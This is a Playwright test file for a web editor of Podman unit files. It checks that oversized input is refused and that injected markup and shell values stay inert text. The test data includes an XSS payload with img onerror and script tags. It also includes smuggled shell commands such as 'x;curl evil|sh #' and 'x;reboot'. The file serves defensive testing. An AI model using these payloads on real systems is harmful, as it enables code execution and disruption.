import type { Page } from "@playwright/test";
import { expect, field, fillContainer, openPage, test, unitFile, unitFileText } from "./page.ts";

/** A text in every field that would do something if it were taken for a part of the page. */
const script = `"><img src=x onerror="document.title='taken'"><script>document.title='taken'</script>`;

async function open(page: Page, files: Readonly<Record<string, string>>): Promise<void> {
  await page
    .locator("input[type=file]")
    .first()
    .setInputFiles(
      Object.entries(files).map(([name, text]) => ({
        name,
        mimeType: "text/plain",
        buffer: Buffer.from(text),
      })),
    );
}

/** The number that stands before the line of the file in which the element is. */
function numberBeside(element: Element): string | undefined {
  const line = element.closest("[data-line]");
  return line === null ? undefined : getComputedStyle(line, "::before").content;
}

/** The page reacts: a name typed in the form is in the file. */
async function expectUsable(page: Page): Promise<void> {
  await fillContainer(page, { name: "still-here" });
  await expect(unitFile(page)).toContainText("ContainerName=still-here");
}

test("a file of 100,000 lines is refused with a sentence, and the draft stays", async ({ page }) => {
  await openPage(page);
  const before = await unitFileText(page);
  await open(page, { "long.container": `[Container]\nImage=quay.io/a/b:1\n${"# x\n".repeat(99_998)}` });
  await expect(page.getByRole("alert")).toContainText("long.container is longer than any unit file");
  expect(await unitFileText(page)).toBe(before);
  await expectUsable(page);
});

test("a file of 8,000 lines is opened, and the form goes on working", async ({ page }) => {
  await openPage(page);
  const text = `[Container]\nImage=quay.io/a/b:1\n${"# what it is for\n".repeat(8000)}`;
  await open(page, { "long.container": text });
  await expect(field(page, "Container.Image")).toHaveValue("quay.io/a/b:1", { timeout: 30_000 });
  expect(await unitFileText(page)).toBe(text);
  await expectUsable(page);
  const last = unitFile(page).getByText("# what it is for").last();
  await last.scrollIntoViewIfNeeded();
  expect(await last.evaluate(numberBeside)).toBe('"8003"');
});

test("70,000 variables in one line are ten findings and a count, and every tab goes on working", async ({
  page,
}) => {
  await openPage(page);
  await open(page, {
    "long.container": `[Container]\nImage=quay.io/a/b:1\nExec=${"${A} ".repeat(70_000)}\n`,
  });
  const findings = page.getByRole("region", { name: "Why it matters" });
  await expect(findings).toContainText("And 69,990 more of these in the same line", { timeout: 30_000 });
  expect(await findings.locator("[data-rule=dollar-expansion]").count()).toBe(11);
  for (const tab of ["podman run", "Service", "Install"]) {
    // oxlint-disable-next-line no-await-in-loop -- a person has one page
    await page.getByRole("tab", { name: tab, exact: true }).click();
    // oxlint-disable-next-line no-await-in-loop
    await expect(page.getByRole("tabpanel", { name: tab, exact: true })).toBeVisible();
  }
  await page.getByRole("tab", { name: "long.container" }).click();
  await expectUsable(page);
});

test("a file of more than 1 MB is refused with a sentence, and the draft stays", async ({ page }) => {
  await openPage(page);
  const before = await unitFileText(page);
  await open(page, { "large.container": `[Container]\n${"# x\n".repeat(1_300_000)}` });
  await expect(page.getByRole("alert")).toContainText("large.container is larger than 1 MB");
  expect(await unitFileText(page)).toBe(before);
  await expectUsable(page);
});

test("5 MB in a field are refused with a sentence, and the file stays", async ({ page }) => {
  await openPage(page);
  const before = await unitFileText(page);
  await field(page, "Container.Image").fill("x".repeat(5_000_000));
  await expect(page.getByText("This is longer than any unit file: over 1 MB.")).toBeVisible();
  expect(await unitFileText(page)).toBe(before);
  await field(page, "Container.Image").fill("quay.io/a/b:1");
  await expect(unitFile(page)).toContainText("Image=quay.io/a/b:1");
});

test("HTML and script in every field stay text", async ({ page }) => {
  await openPage(page);
  const title = await page.title();
  await page.locator("main").click({ position: { x: 2, y: 2 } });
  await field(page, "Service.Restart").waitFor();
  await page.getByRole("button", { name: "Add volume" }).click();
  await page.getByRole("button", { name: "Add variable" }).click();
  const fields = page.locator("main input[name]:not([type=radio]):not([type=checkbox])");
  for (const input of await fields.all()) {
    // oxlint-disable-next-line no-await-in-loop -- what one field writes may change the next
    if (await input.isVisible()) await input.fill(script, { timeout: 2000 }).catch(() => undefined);
  }
  await expect(unitFile(page)).toContainText("<script>");
  expect(await page.locator("main img, main script").count()).toBe(0);
  expect(await page.title()).toBe(title);
});

test("HTML in the name of a file and in a link stays text", async ({ page }) => {
  await openPage(
    page,
    `./?ContainerName=web&Image=${encodeURIComponent(script)}&${encodeURIComponent(script)}=1`,
  );
  const title = await page.title();
  await expect(field(page, "Container.ContainerName")).toHaveValue("web");
  await expect(page.getByRole("alert")).toContainText("<img");
  await open(page, { [`<img src=x onerror=1>.container`]: "[Container]\nImage=quay.io/a/b:1\n" });
  await expect(page.getByRole("alert")).toContainText("systemd refuses < in a name");
  expect(await page.locator("main img").count()).toBe(0);
  expect(await page.title()).toBe(title);
});

test("control characters and half surrogate pairs are refused with a sentence", async ({ page }) => {
  await openPage(page);
  const before = await unitFileText(page);
  for (const typed of ["a\u0000b", "a\u001Bb", "a\uD800b", "a\u0085\u0000"]) {
    // oxlint-disable-next-line no-await-in-loop -- one after the other in one field
    await field(page, "Container.Image").evaluate((input, value) => {
      Reflect.set(HTMLInputElement.prototype, "value", value, input);
      input.dispatchEvent(new Event("input", { bubbles: true }));
    }, typed);
    // oxlint-disable-next-line no-await-in-loop -- see above
    await expect(field(page, "Container.Image")).toHaveAttribute("aria-invalid", "true");
    // oxlint-disable-next-line no-await-in-loop -- see above
    expect(await unitFileText(page)).toBe(before);
  }
  await expectUsable(page);
});

test("a link with 10,000 parameters says what it did not take, briefly", async ({ page }) => {
  const parameters = Array.from({ length: 10_000 }, (_, index) => `x${index}=${index}`).join("&");
  await openPage(page, `./?Image=quay.io/a/b:1&${parameters}`);
  await expect(field(page, "Container.Image")).toHaveValue("quay.io/a/b:1");
  await expect(page.getByRole("alert").getByRole("listitem")).toHaveCount(21);
  await expectUsable(page);
});

test("an address with a value of 1 MB says which one is too long, and fills in the others", async ({
  page,
}) => {
  await openPage(page, `./?Exec=${"a".repeat(1_000_000)}&ContainerName=web`);
  await expect(page.getByRole("alert")).toContainText("“Exec” in the address is left out");
  await expect(page.getByRole("textbox", { name: "Container name" })).toHaveValue("web");
  await expectUsable(page);
});

test("values that a shell would run are words of the commands to copy", async ({ page }) => {
  await openPage(page);
  await open(page, {
    "web.container":
      '[Container]\nImage=quay.io/a/b:1\nServiceName=*\nSecret="x;curl evil|sh #"\nNetwork=app.network\n',
    "app.network": "[Network]\nNetworkName=x;reboot\nSubnet=10.1.0.0/24\n",
  });
  const matters = page.getByRole("region", { name: "Why it matters" });
  await expect(matters).toContainText("“sudo podman secret create 'x;curl evil|sh #' /dev/tty”");
  // systemctl would take it for every service.
  const install = page.getByRole("region", { name: "Install it" });
  await expect(install).toContainText("systemd takes no service of this name");
  await expect(install.locator("code").last()).toHaveText("sudo systemctl daemon-reload");
  await page.getByRole("tab", { name: "app.network" }).click();
  await expect(matters).toContainText("“podman network rm 'x;reboot'”");
});
